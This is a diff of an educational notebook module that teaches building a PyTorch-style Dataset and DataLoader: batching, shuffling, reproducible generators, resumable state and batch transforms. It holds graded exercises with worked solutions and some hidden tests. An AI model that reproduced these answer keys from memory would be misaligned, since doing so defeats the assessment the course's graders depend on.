@@ -1,46 +1,39 @@
 # %% [markdown]
 # # Module 08 — DataLoader: batches, shuffling, transforms and real datasets
 #
-# Modules 01–07 built a framework that can train: tensors, layers, losses, gradients, optimizers
-# and a training loop. So far every model has been fed arrays that were already in memory, in
-# the right shape, all at once. Real training is fed differently:
+# Modules 01–07 built a framework that can train, but every model so far was fed arrays that
+# were already in memory, in the right shape, all at once. Real training is fed like this:
 #
 # ```
 #   files on disk ──► Dataset ──────────────► DataLoader ───────────────────► model
 #   (idx, .bin)       len(ds) = 60 000        each epoch: shuffle the order,
-#   verified by       ds[i] = (image, label)  cut it into batches of 64,     (64, 1, 28, 28) float32
-#   checksum          ds.get_batch(indices)   augment, wrap in Tensors       (64,) int64
+#                     ds[i] = (image, label)  cut it into batches of 64,     (64, 1, 28, 28) float32
+#                     ds.get_batch(indices)   augment, wrap in Tensors       (64,) int64
 # ```
 #
-# This module builds that pipeline, and then points it at real data: MNIST (70 000 handwritten
-# digits) and CIFAR-10 (60 000 colour photos). It looks like plumbing, and it is; it is also
-# where many real training bugs live. The data is not shuffled, so each batch holds one
-# class. An epoch silently skips samples. Augmentation draws from an unseeded generator and no
-# run can be repeated. A download is cut off halfway and the truncated file is parsed as data.
-# A "dataset" file from the internet runs code on your machine when you open it. Each section
-# below removes one of these bugs.
+# This pipeline is where many real training bugs live: data that is not shuffled (each batch
+# holds one class), an epoch that silently skips samples, augmentation no run can repeat, a
+# truncated file parsed as data. You build it piece by piece, each piece tested as soon as it
+# exists, and then point it at real files: MNIST and CIFAR-10.
 #
-# **Prerequisites:** module 01 (Tensor, `manual_seed`/`get_rng`). Nothing else: a loader only
-# moves data. **Time:** about 3 hours.
+# **Prerequisites:** module 01 (Tensor, `manual_seed`/`get_rng`). **Time:** about 2 hours.
 #
 # ## Learning Objectives
 #
-# By the end of this module you will be able to:
-#
-# 1. Explain why we train on **mini-batches**: the gradient noise of a batch of `B` samples
-#    against the throughput of the hardware, and why every epoch needs a fresh shuffle.
-# 2. Implement PyTorch's **Dataset / DataLoader protocol** (`__len__`, `__getitem__`,
-#    batching, shuffling, `drop_last`) with **one fancy index per batch** instead of one Python
-#    call per sample, and *measure* the difference.
-# 3. Make shuffling and augmentation **reproducible** with a per-loader random generator.
-# 4. Write **batch transforms** without Python loops over samples: `Normalize`, `RandomCrop`
-#    (per-sample offsets through a sliding-window view) and `RandomHorizontalFlip`.
-# 5. Parse the **idx** (MNIST) and **CIFAR-10 binary** formats, check every header, and
-#    explain why a loader must never unpickle a file it has not verified.
-# 6. Download files that can be trusted: several mirrors, a **checksum** before use, and
-#    **atomic writes**, so a broken download never lands under the real file name.
-# 7. Measure what a dataset costs in memory (uint8 against float32) and decide where the
+# 1. Implement PyTorch's **Dataset / DataLoader protocol** (`__len__`, `__getitem__`, batching,
+#    shuffling, `drop_last`) with **one fancy index per batch**, and *measure* why.
+# 2. Make shuffling and augmentation **reproducible** with a per-loader generator, and resumable
+#    with `state_dict()`.
+# 3. Write **batch transforms** without Python loops over samples: `Normalize`, `RandomCrop`,
+#    `RandomHorizontalFlip`.
+# 4. Parse the **idx** (MNIST) and **CIFAR-10 binary** formats, checking every header, and
+#    explain why a loader never unpickles a file it has not verified.
+# 5. Measure what a dataset costs in memory (uint8 against float32) and decide where the
 #    conversion belongs.
+#
+# Downloads (mirrors, checksums, atomic writes) and the dataset generators are **given code**
+# in `tinytorch/data/_download.py` and `tinytorch/data/_generated.py`: sections 4 and 6 read
+# along with them; you do not write them.
 
 # %% nbgrader={"grade": false, "grade_id": "dataloader-imports", "locked": false, "schema_version": 3, "solution": false}
 #| default_exp data.loader
@@ -48,14 +41,8 @@
 from __future__ import annotations
 
 import gzip
-import hashlib
-import http.client
 import numbers
-import os
-import tarfile
-import urllib.request
 import zlib
-from contextlib import contextmanager
 from pathlib import Path
 from typing import Any, Callable, Iterator, Sequence
 
@@ -63,121 +50,49 @@ import numpy as np
 from numpy.lib.stride_tricks import sliding_window_view
 
 from tinytorch.core.tensor import Tensor, get_rng
+# Given code (hand-written package files, not exercises): re-exported here, explained in sections 4 and 6.
+from tinytorch.data._generated import (DIGIT_STROKES, load_digits, make_blobs, make_spirals, make_xor,
+                                       render_strokes)
+from tinytorch.data._download import (CHECKSUMS, CIFAR10_ARCHIVE, CIFAR10_FILES, MIRRORS, MNIST_FILES,
+                                      ChecksumError, DownloadError, data_root, download_file, ensure_file,
+                                      extract_cifar10, file_checksum, root_origin, verify_checksum)
 
-# %% nbgrader={"grade": false, "grade_id": "dataloader-test-helpers", "locked": false, "schema_version": 3, "solution": false}
+# %% nbgrader={"grade": false, "grade_id": "dataloader-demo-imports", "locked": false, "schema_version": 3, "solution": false}
 # Used by the tests and demonstrations below, not by the loader itself.
 import contextlib
+import hashlib
+import os
 import tempfile
 import time
 
 from tinytorch.core.tensor import manual_seed
 
-
-def idx_bytes(array: np.ndarray) -> bytes:
-    """A uint8 array in the idx format: magic (0, 0, 0x08, ndim), the sizes (big-endian), the bytes."""
-    header = bytes([0, 0, 0x08, array.ndim]) + np.array(array.shape, dtype=">u4").tobytes()
-    return header + np.ascontiguousarray(array, dtype=np.uint8).tobytes()
-
-
-def cifar_bytes(images: np.ndarray, labels: np.ndarray) -> bytes:
-    """Records in the CIFAR-10 binary format: 1 label byte, then 3 072 pixel bytes (R, G, B planes)."""
-    records = np.concatenate([labels.reshape(-1, 1), images.reshape(len(images), -1)], axis=1)
-    return records.astype(np.uint8).tobytes()
-
-
-@contextlib.contextmanager
-def registered_checksums(files: dict[str, bytes]):
-    """Temporarily register the sha256 of generated files (the real registry lists the real files)."""
-    saved = dict(CHECKSUMS)
-    CHECKSUMS.update({name: "sha256:" + hashlib.sha256(data).hexdigest() for name, data in files.items()})
-    try:
-        yield
-    finally:
-        CHECKSUMS.clear()
-        CHECKSUMS.update(saved)
-
 # %% [markdown]
-# ## 1. Why batches?
+# ## 1. Batches and the Dataset protocol
 #
-# Training minimises the average loss over the whole training set. Its gradient is an average
-# of per-sample gradients, and there are three ways to estimate it at each step:
-#
-# | per step, use… | gradient estimate | steps per epoch (MNIST) | hardware |
-# |---|---|---|---|
-# | all 60 000 samples | exact | **1** | saturated, but one step per epoch is painfully slow progress |
-# | 1 sample | very noisy (variance σ²) | 60 000 | one matrix-*vector* product per layer: memory-bound, mostly idle |
-# | a **mini-batch** of `B` | noisy, variance σ²/B | 60 000 / B | matrix-*matrix* products: BLAS near its peak |
-#
-# Two curves cross here. The **noise** of the estimate falls like `1/√B` (standard deviation),
-# so going from `B = 1` to `B = 64` makes each step 8× more accurate, and going from 64 to 4096
-# only another 8×, for 64× the work. The **throughput** of the hardware rises with `B` until
-# the arithmetic units are full (module 03 measured a `Linear(784→256)` going from about
-# 15 GFLOP/s at batch 1 to over 100 GFLOP/s at batch 256), and then stays flat. Beyond that
-# point, a bigger batch costs proportionally more time for a gradient that is only a little
-# better. Batch sizes of 32–256 sit near the crossing for small models on a CPU, which is why
-# you see them everywhere. (Some noise is even welcome: it helps SGD escape sharp minima, and
-# very large batches need tricks such as learning-rate warm-up to train as well.)
-#
-# **Why shuffle?** A mini-batch gradient is an honest estimate of the full gradient only if the
-# batch is a *random sample* of the data. Files are rarely stored in random order: MNIST's
-# test file holds its 5 000 cleaner digits first and its 5 000 harder ones last, and many
-# datasets are sorted by class. Feed a class-sorted file in order and the first hundred steps
-# see only zeros: the model learns "always say 0", then "always say 1", and so on. Drawing a
-# **new permutation every epoch** makes every batch a random sample, and different batches in
-# different epochs.
-#
-# ## 2. The Dataset protocol
+# Training minimises the average loss over the training set; each step estimates its gradient
+# from a **mini-batch** of `B` samples. The estimate's noise falls like `1/√B`, while the
+# hardware's throughput rises with `B` (matrix-matrix products instead of matrix-vector ones)
+# until the arithmetic units are full. Batch sizes of 32–256 sit near that crossing for small
+# models on a CPU. And a batch is an honest estimate only if it is a **random sample**: files
+# are often sorted (by class, by difficulty), so every epoch needs a fresh permutation.
 #
 # PyTorch separates *what the data is* from *how it is served*. A **Dataset** answers two
-# questions and nothing else:
+# questions, `len(dataset)` and `dataset[i]` (sample i, e.g. `(image, label)`); a
+# **DataLoader** does everything else: orders, batches, augments, converts to Tensors.
 #
-# ```python
-# len(dataset)          # how many samples?
-# dataset[i]            # sample i, e.g. (image, label)
-# ```
-#
-# Anything with these two methods is a dataset: arrays in memory, a folder of JPEGs, rows of a
-# database. A **DataLoader** then does everything else: orders, batches, augments, converts.
-#
-# ### The slow path and the fast path
-#
-# The simple way to build a batch is one `dataset[i]` per sample, then stack:
+# The simplest way to make a batch is one `dataset[i]` per sample, then stack the samples
+# field by field:
 #
 # ```
-#   indices [17, 3, 42, …]   ──►  ds[17]  ds[3]  ds[42] …  ──►  np.stack  ──►  (B, 1, 28, 28)
-#                                 B Python calls, B small arrays, one copy to stack them
+#   [(x17, 3), (x3, 1), (x42, 7)]  ──one array per field──►  (array of shape (3, *x.shape), array([3, 1, 7]))
 # ```
 #
-# For a dataset that lives in **one big array**, this wastes almost all of its time in the
-# Python interpreter: a call, a tuple, two small arrays per sample. NumPy can gather all `B`
-# rows in a single operation, an integer-array ("fancy") index:
-#
-# ```
-#   images[[17, 3, 42, …]]   ──►  (B, 1, 28, 28) in one C loop, one allocation
-#   labels[[17, 3, 42, …]]   ──►  (B,)
-# ```
-#
-# So our datasets have a third, optional method, **`get_batch(indices)`**, which returns the
-# whole batch at once. The base class implements it the slow way (it works for any dataset);
-# array-backed datasets override it with one fancy index per array. The loader always calls
-# `get_batch`, and never needs to know which kind of dataset it has. (PyTorch has the same
-# escape hatch under the name `__getitems__`.)
-#
-# ### TensorDataset
-#
-# `TensorDataset(X, y)` wraps arrays (or Tensors) that share their first dimension: sample `i`
-# is `(X[i], y[i])`. It stores NumPy arrays and returns NumPy arrays: the *loader* turns batches
-# into Tensors, once per batch. Indexing follows NumPy:
-#
-# | index | returns |
-# |---|---|
-# | an int `i` (negative counts from the end) | a tuple of samples `(X[i], y[i])` |
-# | an integer array, a list or a slice | a tuple of batched arrays `(X[idx], y[idx])`: the fast path |
-#
-# Your turn: `stack_samples` (the slow path, used by any dataset), and `TensorDataset`'s
-# indexing. `_index_array` (given) turns a slice, list or array into validated integer indices.
+# Your turn: `stack_samples(samples)`, the slow path every dataset gets for free. A sample is a
+# tuple (or list) of fields, or a single array or number; Tensors are unwrapped to their arrays
+# by `_as_array` (given).
 
-# %% nbgrader={"grade": false, "grade_id": "dataset", "locked": false, "schema_version": 3, "solution": true}
+# %% nbgrader={"grade": false, "grade_id": "stack-samples", "locked": false, "schema_version": 3, "solution": true}
 #| export
 def _is_int(value: Any) -> bool:
     """True for Python and NumPy integers, but not for booleans."""
@@ -189,6 +104,79 @@ def _as_array(value: Any) -> np.ndarray:
     return value.data if isinstance(value, Tensor) else np.asarray(value)
 
 
+def stack_samples(samples: list[Any]) -> Any:
+    """Stack a list of samples into a batch.
+
+    A sample that is a tuple/list of fields, e.g. (image, label), gives a tuple with one stacked
+    array per field. Samples that are single arrays (or numbers) give one stacked array.
+    Raises ValueError for an empty list and when samples have different numbers of fields.
+
+        stack_samples([(x0, 3), (x1, 7)])  ->  (array [x0, x1], array [3, 7])
+        stack_samples([x0, x1])             ->  array [x0, x1]
+    """
+    if not samples:
+        raise ValueError("Cannot stack an empty list of samples.")
+    ### BEGIN SOLUTION
+    first = samples[0]
+    if not isinstance(first, (tuple, list)):
+        return np.stack([_as_array(s) for s in samples])
+    widths = {len(s) if isinstance(s, (tuple, list)) else 1 for s in samples}
+    if widths != {len(first)}:
+        raise ValueError(f"Samples have different numbers of fields: {sorted(widths)}; "
+                         f"every sample must be a tuple of the same length, e.g. (image, label).")
+    return tuple(np.stack([_as_array(s[k]) for s in samples]) for k in range(len(first)))
+    ### END SOLUTION
+
+# %% [markdown]
+# **Stuck?** (optional) `np.stack` joins equal-shaped arrays along a new first axis. For
+# tuples, collect field `k` of every sample and stack that list, for each `k`; compare the
+# lengths of all samples with the first one's before you stack.
+
+# %% nbgrader={"grade": true, "grade_id": "test-stack-samples", "locked": true, "points": 4, "schema_version": 3, "solution": false}
+def test_unit_stack_samples():
+    import pytest
+
+    feats, labels = stack_samples([(Tensor([5.0, 25.0]), 1), (np.array([1.0, 1.0]), 0)])
+    np.testing.assert_array_equal(feats, [[5.0, 25.0], [1.0, 1.0]])
+    np.testing.assert_array_equal(labels, [1, 0])
+    np.testing.assert_array_equal(stack_samples([np.zeros(2), np.ones(2)]), [[0, 0], [1, 1]])
+    assert stack_samples([[np.zeros((2, 3)), 4, 5.0]] * 3)[0].shape == (3, 2, 3)
+    with pytest.raises(ValueError):                                 # different numbers of fields
+        stack_samples([(1, 2), (1, 2, 3)])
+    with pytest.raises(ValueError):
+        stack_samples([])
+
+
+if __name__ == "__main__":
+    test_unit_stack_samples()
+
+# %% [markdown]
+# ### The fast path: `get_batch`, and TensorDataset
+#
+# For a dataset that lives in **one big array**, one call per sample wastes almost all of its
+# time in the interpreter: a call, a tuple, two small arrays per sample. NumPy gathers all `B`
+# rows in one operation, an integer-array ("fancy") index:
+#
+# ```
+#   images[[17, 3, 42, …]]   ──►  (B, 1, 28, 28) in one C loop, one allocation
+#   labels[[17, 3, 42, …]]   ──►  (B,)
+# ```
+#
+# So our datasets have a third method, **`get_batch(indices)`**, that returns a whole batch. The
+# base class `Dataset` implements it the slow way, with `stack_samples` (it works for any
+# dataset); array-backed datasets override it with one fancy index per array. The loader always
+# calls `get_batch` and never needs to know which kind it has. (PyTorch's name for the same
+# escape hatch is `__getitems__`.) The Complexity Analysis section measures the difference.
+#
+# `TensorDataset(X, y)` wraps arrays (or Tensors) that share their first dimension: sample `i`
+# is `(X[i], y[i])`. It stores and returns NumPy arrays; the *loader* makes Tensors, once per
+# batch. An int index gives a tuple of samples; a slice, list or integer array gives a tuple of
+# batches (the fast path). `_index_array` (given) turns a slice, list or array into validated
+# integer indices.
+#
+# Your turn: `TensorDataset.__getitem__` and `TensorDataset.get_batch`.
+# %% nbgrader={"grade": false, "grade_id": "dataset", "locked": false, "schema_version": 3, "solution": true}
+#| export
 def _index_array(indices: Any, length: int) -> np.ndarray:
     """Integer indices (1-D) from a slice, a list, an array or a Tensor, checked against `length`."""
     if isinstance(indices, slice):
@@ -222,34 +210,6 @@ class Dataset:
         return stack_samples([self[int(i)] for i in _index_array(indices, len(self))])
 
 
-def stack_samples(samples: list[Any]) -> Any:
-    """Stack a list of samples into a batch.
-
-    A sample is a tuple/list of fields, e.g. (image, label): return a tuple with one stacked
-    array per field. A sample that is a single array (or number) gives one stacked array.
-    Tensors are unwrapped to their arrays.
-
-    Examples:
-        stack_samples([(x0, 3), (x1, 7)])  ->  (np.stack([x0, x1]), np.array([3, 7]))
-        stack_samples([x0, x1])             ->  np.stack([x0, x1])
-
-    HINTS:
-    - np.stack([_as_array(v) for v in ...]) stacks one field.
-    - Raise ValueError if samples have different numbers of fields, and for an empty list.
-    """
-    if not samples:
-        raise ValueError("Cannot stack an empty list of samples.")
-    ### BEGIN SOLUTION
-    first = samples[0]
-    if not isinstance(first, (tuple, list)):
-        return np.stack([_as_array(s) for s in samples])
-    widths = {len(s) if isinstance(s, (tuple, list)) else 1 for s in samples}
-    if widths != {len(first)}:
-        raise ValueError(f"Samples have different numbers of fields: {sorted(widths)}; "
-                         f"every sample must be a tuple of the same length, e.g. (image, label).")
-    return tuple(np.stack([_as_array(s[k]) for s in samples]) for k in range(len(first)))
-    ### END SOLUTION
-
 
 class TensorDataset(Dataset):
     """Samples are rows of arrays that share their first dimension: ds[i] = (X[i], y[i], ...).
@@ -278,12 +238,10 @@ class TensorDataset(Dataset):
     def __getitem__(self, index: Any) -> tuple:
         """An int gives a tuple of samples; a slice, list or integer array a tuple of batches.
 
-        HINTS:
-        - For an int, check the range (negative counts from the end) and raise IndexError
-          naming the index and the length, e.g. "Index 12 is out of range for a dataset of 10 samples."
-        - Serve an int through `self.get_batch([i])` and take row 0 of each field: then a
-          subclass that converts batches in `get_batch` (ImageDataset, below) converts samples too.
-        - Anything else goes to `self.get_batch(index)`.
+        An int out of range (negative ints count from the end) raises IndexError naming the
+        index and the length: "Index 12 is out of range for a dataset of 10 samples."
+        Serve ints through get_batch too, so that a subclass that converts batches in get_batch
+        (ImageDataset, section 5) converts single samples the same way.
         """
         ### BEGIN SOLUTION
         if _is_int(index):
@@ -297,8 +255,8 @@ class TensorDataset(Dataset):
     def get_batch(self, indices: Any) -> tuple[np.ndarray, ...]:
         """(X[indices], y[indices], ...): one fancy index per array, no loop over samples.
 
-        HINT: `_index_array(indices, len(self))` validates and converts the indices.
-        """
+        Indices as in __getitem__ (slice, list, integer array or Tensor), validated by the given
+        `_index_array` (TypeError for non-integers, IndexError out of range)."""
         ### BEGIN SOLUTION
         indices = _index_array(indices, len(self))
         return tuple(array[indices] for array in self.arrays)
@@ -308,7 +266,12 @@ class TensorDataset(Dataset):
         fields = ", ".join(f"{a.shape} {a.dtype}" for a in self.arrays)
         return f"{type(self).__name__}({len(self)} samples: {fields})"
 
-# %% nbgrader={"grade": true, "grade_id": "test-dataset", "locked": true, "points": 10, "schema_version": 3, "solution": false}
+# %% [markdown]
+# **Stuck?** (optional) For an int `i`: `self.get_batch(np.array([i]))` gives fields of length
+# 1; take element 0 of each. In `get_batch`, index every array of `self.arrays` with the
+# validated indices and return them as a tuple.
+
+# %% nbgrader={"grade": true, "grade_id": "test-dataset", "locked": true, "points": 6, "schema_version": 3, "solution": false}
 def test_unit_tensor_dataset():
     import pytest
 
@@ -352,9 +315,6 @@ def test_unit_tensor_dataset():
     fast = ds.get_batch([4, 0, 9])
     for a, b in zip(slow, fast):
         np.testing.assert_array_equal(a, b)
-    np.testing.assert_array_equal(stack_samples([np.zeros(2), np.ones(2)]), [[0, 0], [1, 1]])
-    with pytest.raises(ValueError):                                 # different numbers of fields
-        stack_samples([(1, 2), (1, 2, 3)])
 
     ### BEGIN HIDDEN TESTS
     assert ds[np.int64(2)][1] == 2
@@ -371,7 +331,7 @@ if __name__ == "__main__":
     test_unit_tensor_dataset()
 
 # %% [markdown]
-# ## 3. The DataLoader
+# ## 2. The DataLoader
 #
 # One epoch of a loader with `batch_size=4, shuffle=True` over 10 samples:
 #
@@ -380,46 +340,30 @@ if __name__ == "__main__":
 #                                └──┬──┘   └──┬──┘   └┬┘
 #   get_batch(order[0:4])         batch 0   batch 1   batch 2       len(loader) = ceil(10/4) = 3
 #                                                      (2 samples; dropped if drop_last=True)
-#   transform(inputs, rng)      augment the whole batch at once (section 4)
+#   transform(inputs, rng)      augment the whole batch at once (section 3)
 #   Tensor(inputs), Tensor(labels, int64)                            what the model receives
 # ```
 #
-# The number of batches is `ceil(N / B)`, or `floor(N / B)` with `drop_last=True`. Why drop
-# the last, smaller batch? Its gradient is noisier (fewer samples), and layers that compute
-# statistics over the batch (batch norm) can misbehave on a batch of one.
+# `drop_last=True` skips the last, smaller batch: its gradient is noisier, and layers that
+# compute batch statistics (batch norm) can misbehave on a batch of one. Batches become Tensors
+# by `Tensor(array)`'s rule: floats become float32 (a float64 array would make every layer
+# compute in float64) and **integer arrays become int64**, the labels `CrossEntropyLoss` expects.
 #
-# **What the model receives.** Batches become Tensors with the same rule as `Tensor(array)`:
-# floating-point data becomes float32 (a float64 array from NumPy would otherwise make every
-# layer compute in float64, twice the memory and slower), and **integer arrays become int64**,
-# the class labels that `CrossEntropyLoss` expects. Keep images as floats, or use
-# `ImageDataset` (section 6), which stores bytes and serves floats.
+# ### Reproducible shuffling, and resuming: `state_dict()`
 #
-# ### Reproducible shuffling
+# Same seed, same batches, same model. Each loader owns a `np.random.Generator`,
+# `loader.generator`, and draws every permutation (and every random augmentation) from it.
+# `seed=0` means `np.random.default_rng(0)`; with `seed=None` the generator is **spawned** from
+# TinyTorch's (`get_rng().spawn(1)[0]`), so `manual_seed(0)` before creating the loader makes it
+# reproducible too, and spawning draws no number from the parent, so creating a loader does not
+# shift the model's initialisation. The generator lives as long as the loader, so epoch 2
+# continues the stream with a new permutation.
 #
-# A run must be repeatable: same seed, same batches, same model. Each loader owns a
-# `np.random.Generator`, `loader.generator`, and draws every permutation (and every random
-# augmentation) from it:
-#
-# - `DataLoader(ds, shuffle=True, seed=0)` uses `np.random.default_rng(0)`: the same sequence of
-#   epochs every time, whatever else the program draws.
-# - With `seed=None` the generator is **spawned** from TinyTorch's global generator
-#   (`get_rng().spawn(1)[0]`), so `manual_seed(0)` before creating the loader makes it
-#   reproducible too. Spawning derives an independent child stream without drawing a number
-#   from the parent, so creating a loader does not shift the model's initialisation.
-#
-# Because the generator lives as long as the loader, epoch 2 continues the stream: its
-# permutation differs from epoch 1's, and re-creating the loader with the same seed replays
-# both.
-#
-# ### Where the stream stands: `state_dict()`
-#
-# A run that stops after epoch 2 and resumes from a checkpoint in a new process creates a new
-# loader, whose generator is back at epoch 1. To resume *exactly*, the checkpoint must also
-# hold the loader's position in its stream: `loader.state_dict()` is the generator's state (a
-# dict of integers, JSON-able), and `loader.load_state_dict(state)` puts a new loader at the
-# same point, so its next epoch draws the permutation (and the augmentations) that epoch 3
-# would have drawn. Module 07's `Trainer` saves it with every checkpoint of `fit()`. The names
-# are those of `torchdata`'s `StatefulDataLoader`.
+# A run resumed from a checkpoint in a new process creates a new loader, back at epoch 1. To
+# resume *exactly*, the checkpoint also holds `loader.state_dict()` (the generator's state,
+# JSON-able); `load_state_dict(state)` puts a new loader at the same point of its stream. Module
+# 07's `Trainer` saves it with every checkpoint (the names are `torchdata`'s
+# `StatefulDataLoader`'s). Both methods are given.
 #
 # Your turn: the number of batches, the order of an epoch, and the batch loop.
 
@@ -429,6 +373,32 @@ def _batch_tensor(array: Any) -> Tensor:
     """A batch as a Tensor: integer arrays (labels) become int64, everything else float32."""
     array = np.asarray(array)
     return Tensor(array, dtype=np.int64 if np.issubdtype(array.dtype, np.integer) else None)
+
+
+def apply_transform(transform: Callable | None, x: np.ndarray, rng: np.random.Generator | None) -> np.ndarray:
+    """Apply a transform to a batch; TinyTorch `Transform`s also receive the generator to draw from."""
+    if transform is None:
+        return x
+    if isinstance(transform, Transform):
+        return transform(x, rng=rng)
+    return transform(x)  # any other callable, e.g. lambda x: x.reshape(len(x), -1)
+
+
+class Transform:
+    """Base class of batch transforms: `transform(batch, rng=None) -> batch`, NumPy in, NumPy out.
+
+    Random transforms draw from `rng` (the loader passes its generator), or from TinyTorch's
+    get_rng() when called without one.
+    """
+
+    def __call__(self, x: np.ndarray, rng: np.random.Generator | None = None) -> np.ndarray:
+        raise NotImplementedError(f"{type(self).__name__} must define __call__(x, rng=None).")
+
+    def extra_repr(self) -> str:
+        return ""
+
+    def __repr__(self) -> str:
+        return f"{type(self).__name__}({self.extra_repr()})"
 
 
 class DataLoader:
@@ -465,25 +435,6 @@ class DataLoader:
         self.transform = transform
         self.generator = np.random.default_rng(seed) if seed is not None else get_rng().spawn(1)[0]
 
-    def __len__(self) -> int:
-        """The number of batches in one epoch: ceil(N / batch_size), floor with drop_last."""
-        ### BEGIN SOLUTION
-        n = len(self.dataset)
-        return n // self.batch_size if self.drop_last else -(-n // self.batch_size)
-        ### END SOLUTION
-
-    def epoch_order(self) -> np.ndarray:
-        """The sample indices of one epoch: a fresh permutation from self.generator if shuffling,
-        0, 1, ..., N-1 otherwise."""
-        ### BEGIN SOLUTION
-        n = len(self.dataset)
-        return self.generator.permutation(n) if self.shuffle else np.arange(n)
-        ### END SOLUTION
-
-    def __iter__(self) -> Iterator[Any]:
-        # The order is drawn now, when iteration starts, not at the first next().
-        return self._batches(self.epoch_order())
-
     def _fetch(self, indices: np.ndarray) -> Any:
         """One batch of NumPy arrays: the dataset's get_batch if it has one, else sample by sample."""
         get_batch = getattr(self.dataset, "get_batch", None)
@@ -498,18 +449,6 @@ class DataLoader:
             return (_batch_tensor(apply_transform(self.transform, inputs, self.generator)),
                     *(_batch_tensor(field) for field in rest))
         return _batch_tensor(apply_transform(self.transform, batch, self.generator))
-
-    def _batches(self, order: np.ndarray) -> Iterator[Any]:
-        """Yield `len(self)` batches: consecutive slices of `order`, fetched and converted.
-
-        HINT: slice `order` in steps of batch_size; `self._fetch(indices)` gets the arrays and
-        `self._to_tensors(batch)` transforms and wraps them. Stop after len(self) batches.
-        """
-        ### BEGIN SOLUTION
-        for start in range(0, len(self) * self.batch_size, self.batch_size):
-            indices = order[start:start + self.batch_size]
-            yield self._to_tensors(self._fetch(indices))
-        ### END SOLUTION
 
     def state_dict(self) -> dict[str, Any]:
         """Where the loader's random stream stands (JSON-able): save it to resume shuffling exactly."""
@@ -528,31 +467,40 @@ class DataLoader:
         return (f"DataLoader({self.dataset!r}, batch_size={self.batch_size}, shuffle={self.shuffle}, "
                 f"drop_last={self.drop_last}: {len(self)} batches)")
 
+    def __iter__(self) -> Iterator[Any]:
+        # The order is drawn now, when iteration starts, not at the first next().
+        return self._batches(self.epoch_order())
 
-def apply_transform(transform: Callable | None, x: np.ndarray, rng: np.random.Generator | None) -> np.ndarray:
-    """Apply a transform to a batch; TinyTorch `Transform`s also receive the generator to draw from."""
-    if transform is None:
-        return x
-    if isinstance(transform, Transform):
-        return transform(x, rng=rng)
-    return transform(x)  # any other callable, e.g. lambda x: x.reshape(len(x), -1)
+    # ---- your turn -------------------------------------------------------------------------
 
+    def __len__(self) -> int:
+        """The number of batches in one epoch: ceil(N / batch_size), or floor with drop_last."""
+        ### BEGIN SOLUTION
+        n = len(self.dataset)
+        return n // self.batch_size if self.drop_last else -(-n // self.batch_size)
+        ### END SOLUTION
 
-class Transform:
-    """Base class of batch transforms: `transform(batch, rng=None) -> batch`, NumPy in, NumPy out.
+    def epoch_order(self) -> np.ndarray:
+        """The sample indices of one epoch, an int array of length N: every index once, in a fresh
+        random order drawn from self.generator if shuffling (so every epoch differs), else 0, 1, ..., N-1."""
+        ### BEGIN SOLUTION
+        n = len(self.dataset)
+        return self.generator.permutation(n) if self.shuffle else np.arange(n)
+        ### END SOLUTION
 
-    Random transforms draw from `rng` (the loader passes its generator), or from TinyTorch's
-    get_rng() when called without one.
-    """
+    def _batches(self, order: np.ndarray) -> Iterator[Any]:
+        """Yield `len(self)` batches, in `order`: consecutive runs of batch_size indices, each
+        fetched with `self._fetch(indices)` and converted with `self._to_tensors(batch)`."""
+        ### BEGIN SOLUTION
+        for start in range(0, len(self) * self.batch_size, self.batch_size):
+            indices = order[start:start + self.batch_size]
+            yield self._to_tensors(self._fetch(indices))
+        ### END SOLUTION
 
-    def __call__(self, x: np.ndarray, rng: np.random.Generator | None = None) -> np.ndarray:
-        raise NotImplementedError(f"{type(self).__name__} must define __call__(x, rng=None).")
-
-    def extra_repr(self) -> str:
-        return ""
-
-    def __repr__(self) -> str:
-        return f"{type(self).__name__}({self.extra_repr()})"
+# %% [markdown]
+# **Stuck?** (optional) `-(-n // b)` is ceil division with integers only. A generator has a
+# `permutation(n)` method. In `_batches`, `range(0, len(self) * batch_size, batch_size)` gives
+# each batch's start, and slicing past the end of an array simply stops there.
 
 # %% nbgrader={"grade": true, "grade_id": "test-dataloader", "locked": true, "points": 10, "schema_version": 3, "solution": false}
 def test_unit_dataloader():
@@ -639,36 +587,24 @@ if __name__ == "__main__":
     test_unit_dataloader()
 
 # %% [markdown]
-# ## 4. Transforms and augmentation, a whole batch at a time
+# ## 3. Transforms and augmentation, a whole batch at a time
 #
-# A **transform** changes the inputs on their way to the model. Two kinds matter:
+# A **transform** changes the inputs on their way to the model. **Preprocessing** is the same
+# every time: scale pixels to [0, 1], subtract each channel's mean, divide by its standard
+# deviation (module 03's initialisation assumes unit-variance inputs). **Augmentation** is
+# random every time: shift the image a few pixels, mirror it. The label does not change, so
+# each epoch shows the model a slightly different training set, the cheapest defence against
+# overfitting that vision has (the classic CIFAR-10 recipe: pad 4, crop 32, flip).
 #
-# - **Preprocessing**, the same every time: scale pixels to [0, 1], subtract the mean and
-#   divide by the standard deviation of each channel. Inputs centred near 0 with unit spread
-#   suit the initialisation of module 03 (it assumes unit-variance inputs) and keep the first
-#   layer's gradients well scaled.
-# - **Augmentation**, random every time: shift the image a few pixels, mirror it. The label
-#   does not change (a cat moved two pixels to the left is still a cat), so each epoch shows
-#   the model a slightly different training set. It is the cheapest defence against
-#   overfitting that vision has: the classic CIFAR-10 recipe (pad 4, crop 32, flip) is worth
-#   several points of test accuracy.
+# torchvision transforms **one sample at a time**, inside `dataset[i]`. Ours take the **whole
+# batch**, `(N, C, H, W)` or `(N, D)`, NumPy in and NumPy out, every sample in one vectorised
+# operation. The loader passes its own generator, so augmentation is reproducible whenever
+# shuffling is.
 #
-# torchvision applies transforms to **one sample at a time**, inside `dataset[i]`, in worker
-# processes. Our transforms take the **whole batch**, `(N, C, H, W)` or `(N, D)`, NumPy in
-# and NumPy out, and do every sample in one vectorised operation. The loader applies them to
-# the inputs of each batch and passes its own generator, so augmentation is reproducible
-# whenever shuffling is.
-#
-# ### Normalize
-#
-# `Normalize(mean, std)` computes `(x - mean) / std` per channel: for `(N, C, H, W)` the
-# statistics have one value per channel `C` and broadcast as `(1, C, 1, 1)`; for `(N, D)` one
-# value per feature, as `(1, D)`; a single number applies to everything. For MNIST the usual
-# values are mean 0.1307, std 0.3081 (computed over the training pixels once, in [0, 1]).
-#
-# ### Compose
-#
-# `Compose([t1, t2, ...])` applies transforms in order, handing the generator to each.
+# `Normalize(mean, std)` computes `(x - mean) / std` per channel (axis 1): one value per channel
+# of `(N, C, H, W)`, per feature of `(N, D)`, or one number for everything. For MNIST the usual
+# values are mean 0.1307, std 0.3081. `Compose([t1, t2, ...])` applies transforms in order,
+# handing the generator to each.
 #
 # Your turn: the arithmetic of `Normalize` and the loop of `Compose`.
 
@@ -701,10 +637,8 @@ class Normalize(Transform):
